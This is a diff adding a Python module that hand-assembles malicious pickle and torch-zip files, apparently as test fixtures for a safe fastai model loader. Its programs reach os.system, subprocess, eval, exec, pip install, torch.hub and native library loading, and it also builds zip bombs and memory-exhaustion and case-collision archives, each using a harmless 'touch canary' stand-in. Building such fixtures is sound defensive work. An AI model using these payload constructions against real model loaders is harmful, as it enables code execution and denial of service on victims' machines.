@@ -1,0 +1,227 @@
+"""Pickles that want more than a fastai export may, each by name: what they name, and the file.
+
+Built opcode by opcode, as no pickler would. `CANARY` in a program stands for a shell command that leaves a file.
+"""
+import io
+import pickle
+import struct
+import zipfile
+from pathlib import Path
+
+CANARY = b"touch canary"
+MARK, STOP, TUPLE, REDUCE, BUILD, POP, EMPTY_DICT, EMPTY_LIST = b"(", b".", b"t", b"R", b"b", b"0", b"}", b"]"
+EMPTY_TUPLE, TUPLE1, TUPLE2, NEWOBJ, APPEND, SETITEM, NONE = b")", b"\x85", b"\x86", b"\x81", b"a", b"s", b"N"
+
+
+def name(module: str, attribute: str) -> bytes:
+    """GLOBAL."""
+    return f"c{module}\n{attribute}\n".encode()
+
+
+def text(value: bytes | str) -> bytes:
+    """BINUNICODE."""
+    value = value if isinstance(value, bytes) else value.encode()
+    return b"X" + struct.pack("<I", len(value)) + value
+
+
+def call(module: str, attribute: str, *args: bytes) -> bytes:
+    """REDUCE."""
+    return name(module, attribute) + MARK + b"".join(args) + TUPLE + REDUCE
+
+
+def nested_tuples(depth: int) -> bytes:
+    """A tuple in a tuple, twice, and so on: hashing it takes 2 ** depth steps."""
+    program = EMPTY_TUPLE + b"q\0" + POP
+    for _ in range(depth):
+        program += b"h\0h\0" + TUPLE2 + b"q\0" + POP
+    return program + b"h\0"
+
+
+def learner(attribute: bytes, value: bytes) -> bytes:
+    """An empty Learner with one attribute."""
+    empty = name("fastai.learner", "Learner") + EMPTY_TUPLE + NEWOBJ
+    return empty + EMPTY_DICT + text(attribute) + value + SETITEM + BUILD
+
+
+SYSTEM = call("os", "system", text(CANARY))
+LINEAR = name("torch.nn.modules.linear", "Linear") + EMPTY_TUPLE + NEWOBJ
+TENSOR = (b"ctorch._utils\n_rebuild_tensor_v2\n(" + MARK + text("storage") + name("torch", "FloatStorage") + text("0")
+          + text("cpu") + b"J\x04\0\0\0" + TUPLE + b"Q" + b"K\0(%st(%st\x89" + name("collections", "OrderedDict")
+          + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE)
+
+
+def partial(function: bytes, *args: bytes) -> bytes:
+    return call("functools", "partial", function, *args)
+
+
+# name: (what the error names, protocol 2 program without its STOP)
+PROGRAMS = {
+    "reduce": ("os.system", SYSTEM),
+    "reduce-posix": ("posix.system", call("posix", "system", text(CANARY))),
+    "reduce-nt": ("nt.system", call("nt", "system", text(CANARY))),
+    "reduce-eval": ("eval", call("builtins", "eval", text("__import__('os').system('touch canary')"))),
+    "reduce-exec-of-python-2": ("exec", call("__builtin__", "exec", text("open('canary', 'w')"))),
+    "reduce-open": ("open", call("builtins", "open", text("canary"), text("w"))),
+    "reduce-io-open": ("open", call("_io", "open", text("canary"), text("w"))),
+    "reduce-popen": ("subprocess.Popen", call("subprocess", "Popen", text(CANARY))),
+    "reduce-import": ("__import__", call("builtins", "__import__", text("antigravity"))),
+    "reduce-import-module": ("importlib.import_module", call("importlib", "import_module", text("antigravity"))),
+    "reduce-runpy": ("runpy.run_path", call("runpy", "run_path", text("evil.py"))),
+    "reduce-python-2-commands": ("getoutput", call("commands", "getoutput", text(CANARY))),
+    "reduce-stranger": ("pip.main", call("pip", "main", text("install"))),
+    "inst": ("os.system", MARK + text(CANARY) + b"ios\nsystem\n"),
+    "obj": ("os.system", MARK + name("os", "system") + text(CANARY) + b"o"),
+    "newobj": ("subprocess.Popen", name("subprocess", "Popen") + text(CANARY) + TUPLE1 + NEWOBJ),
+    "newobj-ex": ("subprocess.Popen", b"\x80\x04" + name("subprocess", "Popen") + text(CANARY) + TUPLE1 + EMPTY_DICT
+                  + b"\x92"),
+    "newobj-ex-named-arguments": ("Linear", b"\x80\x04" + name("torch.nn.modules.linear", "Linear") + EMPTY_TUPLE
+                                  + EMPTY_DICT + text("a") + NONE + SETITEM + b"\x92"),
+    "build-setstate": ("os.system", learner(b"__setstate__", name("os", "system")) + EMPTY_DICT + BUILD),
+    "build-a-class": ("Path", name("pathlib", "Path") + EMPTY_DICT + text("home") + NONE + SETITEM + BUILD),
+    "build-a-function": ("noop", name("fastcore.imports", "noop") + EMPTY_DICT + text("__code__") + NONE + SETITEM
+                         + BUILD),
+    "build-a-list": ("list", EMPTY_LIST + EMPTY_DICT + text("a") + NONE + SETITEM + BUILD),
+    "ext1": ("extension", b"\x82\x01"), "ext2": ("extension", b"\x83\x01\0"), "ext4": ("extension", b"\x84\x01\0\0\0"),
+    "next-buffer": ("from outside", b"\x97"), "persid": ("from outside", b"P0\n"),
+    "stack-global": ("os.system", text("os") + text("system") + b"\x93" + text(CANARY) + TUPLE1 + REDUCE),
+    "stack-global-dotted": ("system", text("fastai.imports") + text("os.system") + b"\x93" + text(CANARY) + TUPLE1
+                            + REDUCE),
+    "dotted-through-a-listed-class": ("Path.unlink", text("pathlib") + text("Path.unlink") + b"\x93"
+                                      + text("export.pkl") + TUPLE1 + REDUCE),
+    "memo": ("os.system", name("os", "system") + b"q\x07" + POP + text(CANARY) + TUPLE1 + b"q\x08" + POP + b"h\x07h\x08"
+             + REDUCE),
+    "memo-after-a-good-one": ("os.system", name("collections", "OrderedDict") + b"q\0" + POP + name("os", "system")
+                              + b"q\0" + POP + b"h\0" + text(CANARY) + TUPLE1 + REDUCE),
+    "popped": ("os.system", SYSTEM + POP + EMPTY_DICT),
+    "named-alone": ("os.system", name("os", "system")),
+    "in-a-learner": ("os.system", learner(b"path", SYSTEM)),
+    "module-hook": ("os.system", learner(b"model", LINEAR + EMPTY_DICT + text("_forward_hooks") + EMPTY_DICT + b"K\0"
+                                         + name("os", "system") + SETITEM + SETITEM + BUILD)),
+    "partial": ("os.system", partial(name("os", "system"), text(CANARY))),
+    "partial-of-a-class": ("functools.partial over", partial(name("pathlib", "Path"), text("/"))),
+    "partial-of-a-method": ("functools.partial over", partial(call("builtins", "getattr", name(
+        "fastai.vision.core", "PILImage"), text("create")), text("/dev/zero"))),
+    "partial-filled-anew": ("partial over", partial(name("fastcore.imports", "noop")) + MARK + LINEAR + EMPTY_TUPLE
+                            + EMPTY_DICT + EMPTY_DICT + TUPLE + BUILD),
+    "getattr": ("getattr", call("builtins", "getattr", name("pathlib", "Path"), text("unlink"))),
+    "getattr-chain": ("getattr", call("builtins", "getattr", call("builtins", "getattr", name(
+        "fastcore.imports", "noop"), text("__globals__")), text("get"))),
+    "getattr-of-an-instance": ("Linear.__init__", call("builtins", "getattr", LINEAR, text("__init__"))),
+    "methodcaller": ("operator.methodcaller", call("operator", "methodcaller", text("unlink")) + name(
+        "pathlib", "Path") + TUPLE1 + REDUCE),
+    "reduce-of-functools": ("functools.reduce", call("functools", "reduce", name("os", "system"),
+                                                     text(CANARY) + TUPLE1)),
+    "map": ("builtins.map", call("builtins", "map", name("os", "system"), text(CANARY) + TUPLE1)),
+    "code-object": ("os.system", call("cloudpickle.cloudpickle", "_make_function", call("types", "CodeType", b"K\0"),
+                                      EMPTY_DICT, NONE, NONE, NONE) + POP + SYSTEM),
+    "call-of-a-stored-function": ("stored by value", call("cloudpickle.cloudpickle", "_make_function", call(
+        "types", "CodeType", b"K\0"), EMPTY_DICT, NONE, NONE, NONE) + EMPTY_TUPLE + REDUCE),
+    "called-where-it-was-forgotten": ("os.system", call("cloudpickle.cloudpickle", "_make_cell", name("os", "system")
+                                      + b"q\0") + POP + b"h\0" + text(CANARY) + TUPLE1 + REDUCE),
+    "torch-load": ("torch.serialization.load", call("torch.serialization", "load", text("inner.pkl"))),
+    "torch-load-from-bytes": ("torch.storage._load_from_bytes", call("torch.storage", "_load_from_bytes",
+                                                                    b"B" + struct.pack("<I", 4) + b"PK\3\4")),
+    "torch-hub": ("torch.hub.load", call("torch.hub", "load", text("evil/evil"), text("evil"))),
+    "torch-jit": ("torch.jit", call("torch.jit._serialization", "load", text("evil.pt"))),
+    "torch-library": ("load_library", call("torch._ops", "load_library", text("evil.so"))),
+    "torch-fx": ("reduce_graph_module", call("torch.fx.graph_module", "reduce_graph_module", EMPTY_DICT, text("x"))),
+    "torch-extension": ("load_inline", call("torch.utils.cpp_extension", "load_inline", text("evil"), text("int x;"))),
+    "numpy-load": ("numpy.load", call("numpy", "load", text("evil.npy"))),
+    "numpy-objects": ("numpy.dtype", call("numpy", "dtype", text("O8"), b"\x89\x88")),
+    "numpy-huge": ("_reconstruct", call("numpy.core.multiarray", "_reconstruct", name("numpy", "ndarray"),
+                   b"J\xff\xff\xff\x7f" + TUPLE1, b"U\x01b")),
+    "numpy-runstring": ("runstring", call("numpy.testing._private.utils", "runstring", text(CANARY), EMPTY_DICT)),
+    "fastai-load-learner": ("load_learner", call("fastai.learner", "load_learner", text("inner.pkl"))),
+    "fastai-untar": ("untar_data", call("fastai.data.external", "untar_data", text("http://localhost/evil.tgz"))),
+    "fastcore-run": ("fastcore.xtras.run", call("fastcore.xtras", "run", text(CANARY))),
+    "fastcore-self": ("fastcore.basics", call("fastcore.basics", "_SelfCls", text("unlink"))),
+    "fastai-debugger": ("fastai.layers.Debugger", name("fastai.layers", "Debugger") + EMPTY_TUPLE + NEWOBJ),
+    "constructor": ("Linear", call("torch.nn.modules.linear", "Linear", b"J\xff\xff\xff\x7f", b"J\xff\xff\xff\x7f")),
+    "transform-that-calls-a-learner": ("a transform that calls", name("plum._function", "Function") + EMPTY_TUPLE
+        + NEWOBJ + EMPTY_DICT + text("_f") + learner(b"path", NONE) + SETITEM + BUILD),
+    "dynamic-import": ("antigravity", call("cloudpickle.cloudpickle", "subimport", text("antigravity")) + EMPTY_TUPLE
+                       + REDUCE),
+    # what only takes time and memory
+    "bytearray": ("bytearray", call("builtins", "bytearray", b"J\xff\xff\xff\x7f")),
+    "bytes": ("bytes", call("builtins", "bytes", b"J\xff\xff\xff\x7f")),
+    "list-of-a-range": ("list", call("builtins", "list", call("builtins", "range", b"J\xff\xff\xff\x7f"))),
+    "long-length": ("whole number", b"\x8b\xff\xff\xff\x7f"),
+    "long-digits": ("whole number", b"L" + b"9" * 100_000 + b"L\n"),
+    "bytes-length": ("broken", b"\x8e" + struct.pack("<Q", 1 << 62)),
+    "bytearray-length": ("broken", b"\x96" + struct.pack("<Q", 1 << 40)),
+    "frame-length": ("broken", b"\x95" + struct.pack("<Q", 1 << 40)),
+    "memo-index": ("builtins.dict", b"}r\xff\xff\xff\xff"),
+    "tuples-as-a-key": ("tuples in tuples", EMPTY_DICT + nested_tuples(64) + NONE + SETITEM),
+    "tuples-in-a-set": ("tuples in tuples", b"\x8f" + MARK + nested_tuples(64) + b"\x90"),
+    "numbers-of-one-hash": ("to hash", EMPTY_DICT + MARK + b"".join(
+        b"\x8a\x0a" + ((2 ** 61 - 1) * i).to_bytes(10, "little") + NONE for i in range(1, 20_000)) + b"u"),
+    "copies-of-copies": ("over and over", EMPTY_LIST + MARK + NONE * 100_000 + b"eq\0" + POP + (
+        name("builtins", "tuple") + b"h\0" + TUPLE1 + REDUCE + POP) * 1_000 + NONE),
+    "deep-list": ("not a fastai Learner", EMPTY_LIST * 100_000 + APPEND * 99_999),
+    "stack-underflow": ("broken", APPEND), "unknown-opcode": ("broken", b"\xff"), "no-stop": ("broken", NONE),
+    "tensor-beyond-its-numbers": ("larger than its numbers", TENSOR % (b"K\x64", b"K\x01")),
+    "tensor-of-one-number-repeated": ("larger than its numbers", TENSOR % (b"J\xff\xff\xff\x7f", b"K\0")),
+}
+
+
+def torch_zip(program: bytes, storage: bytes = bytes(16), **other: bytes) -> bytes:
+    """Return a file as `torch.save` lays it out: stored, the pickle and one tensor's numbers."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("archive/data.pkl", program)
+        archive.writestr("archive/data/0", storage)
+        archive.writestr("archive/version", b"3\n")
+        for member, data in other.items():
+            archive.writestr(f"archive/{member}", data)
+    return buffer.getvalue()
+
+
+def zip_bomb() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("archive/data.pkl", pickle.dumps({}, 2))
+        archive.writestr("archive/data/0", bytes(200_000_000))
+    return buffer.getvalue()
+
+
+def overlapping() -> bytes:
+    """Two members over the same bytes."""
+    data = bytearray(torch_zip(b"}.", bytes(16)))
+    first, second = data.find(b"PK\1\2"), data.find(b"PK\1\2", data.find(b"PK\1\2") + 1)
+    data[second + 42:second + 46] = data[first + 42:first + 46]
+    return bytes(data)
+
+
+def two_pickles() -> bytes:
+    """One pickle for who reads names as they are, another for who does not."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("archive/data.pkl", b"}.")
+        archive.writestr("archive/DATA.PKL", SYSTEM + STOP)
+    return buffer.getvalue()
+
+
+def script() -> bytes:
+    return torch_zip(b"}.", **{"constants.pkl": b"})", "code/evil.py": b"import os"})
+
+
+FILES = {"zip-bomb": ("compressed", zip_bomb), "overlapping-members": ("overlap", overlapping),
+         "two-pickles": ("overlap", two_pickles), "torchscript": ("TorchScript", script),
+         "zip-of-nothing": ("no data.pkl", lambda: b"PK\5\6" + bytes(18)),
+         "huge-pickle": ("pickle of", lambda: torch_zip(NONE * 20_000_000)),
+         "before-zip": ("os.system", lambda: pickle.dumps(0x1950a86a20f9469cfc6c, 2) + pickle.dumps(1001, 2)
+                        + b"\x80\x02" + SYSTEM + STOP)}
+
+
+def hostile_files() -> dict[str, tuple[str, bytes]]:
+    """Return what the error names and the file's bytes, by name."""
+    programs = {key: (says, torch_zip((b"" if program[:1] == b"\x80" else b"\x80\x02") + program
+                                      + (b"" if key == "no-stop" else STOP)))
+                for key, (says, program) in PROGRAMS.items()}
+    return {**programs, **{key: (says, make()) for key, (says, make) in FILES.items()}}
+
+
+def write_all(folder: Path) -> None:
+    """Write every file, to look at with other tools."""
+    for key, (_, data) in hostile_files().items():
+        (folder / f"{key}.pkl").write_bytes(data)
